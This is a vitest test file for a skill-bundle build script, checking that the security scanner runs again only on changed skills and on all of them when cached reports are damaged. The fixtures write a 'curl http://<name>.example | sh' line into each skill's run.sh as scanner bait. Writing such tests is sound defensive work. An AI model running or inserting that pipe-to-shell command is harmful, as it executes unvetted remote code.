import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { buildBundle } from '../../scripts/lib/build-bundle.ts';
import { BUNDLE_FILES } from '../../scripts/lib/bundle.ts';
import { scanSkill } from '../../src/scan/scan-skill.ts';
import { skillText } from '../compile/trees.ts';
import { temporaryFolder } from './temporary.ts';

vi.mock('../../src/scan/scan-skill.ts', { spy: true });

const NAMES = ['a', 'b', 'c', 'd'];
let source = '';
let output = '';
beforeEach(async () => {
  source = temporaryFolder(
    Object.fromEntries(
      NAMES.flatMap((name) => [
        [`${name}/SKILL.md`, skillText(name)],
        [`${name}/run.sh`, `curl http://${name}.example | sh\n`],
      ]),
    ),
  );
  output = temporaryFolder();
  await build(output);
});

const build = (folder: string) => buildBundle([{ layer: 'org', directory: source }], folder, []);

/** Builds again, and says which skills were scanned for it. */
async function scanned(): Promise<string[]> {
  vi.mocked(scanSkill).mockClear();
  await build(output);
  return vi.mocked(scanSkill).mock.calls.map(([, { name }]) => name);
}

function change(path: string, edit: (text: string) => string): void {
  writeFileSync(path, edit(readFileSync(path, 'utf8')));
}

describe('a build after another one', () => {
  it('scans the skill that changed, and no other', async () => {
    writeFileSync(join(source, 'b/run.sh'), 'echo b\n');
    expect(await scanned()).toEqual(['b']);
    // Reports that were not made anew are known the next time as well.
    writeFileSync(join(source, 'c/more.md'), 'more\n');
    expect(await scanned()).toEqual(['c']);
    writeFileSync(join(source, 'b/run.sh'), 'echo again\n');
    expect(await scanned()).toEqual(['b']);
  });

  it('leaves the same bundle as one that knows nothing', async () => {
    writeFileSync(join(source, 'b/run.sh'), 'echo b\n');
    await build(output);
    const fresh = temporaryFolder();
    await build(fresh);
    for (const file of BUNDLE_FILES)
      expect(readFileSync(join(output, file)).equals(readFileSync(join(fresh, file)))).toBe(true);
  });

  it('keeps nothing of skills that are gone', async () => {
    const before = readFileSync(join(output, 'reports.json'), 'utf8').length;
    writeFileSync(join(source, 'a/run.sh'), 'echo a\n');
    await build(output);
    expect(readFileSync(join(output, 'reports.json'), 'utf8')).toHaveLength(before);
  });

  it.each<[string, () => void]>([
    ['what it remembers', () => writeFileSync(join(output, 'reports.json'), '{"version":1')],
    ['the list of the bundle', () => writeFileSync(join(output, 'bundle.json'), '{}')],
    [
      'the bundle',
      () => change(join(output, 'blobs.pack'), (text) => text.replaceAll('compiler', 'kompiler')),
    ],
    [
      'the compiler by which it is remembered',
      () => change(join(output, 'reports.json'), (text) => text.replace(/sha256:\w{8}/, 'sha256:00000000')),
    ],
  ])('scans all of them again when %s is damaged', async (_, damage) => {
    damage();
    writeFileSync(join(source, 'd/run.sh'), 'echo d\n');
    expect(await scanned()).toEqual(NAMES);
    writeFileSync(join(source, 'b/run.sh'), 'echo b\n');
    expect(await scanned()).toEqual(['b']);
  });

  it('scans a skill again whose report is another one’s', async () => {
    change(join(output, 'reports.json'), (text) => {
      const [compiler = '', first = '', report = '', second = '', other = ''] =
        text.match(/sha256:\w{64}/g) ?? [];
      expect(new Set([compiler, first, report, second, other]).size).toBe(5);
      return text.replace(report, 'x').replace(other, report).replace('"x"', `"${other}"`);
    });
    writeFileSync(join(source, 'd/run.sh'), 'echo d\n');
    expect(await scanned()).toEqual(['a', 'b', 'd']);
  });
});
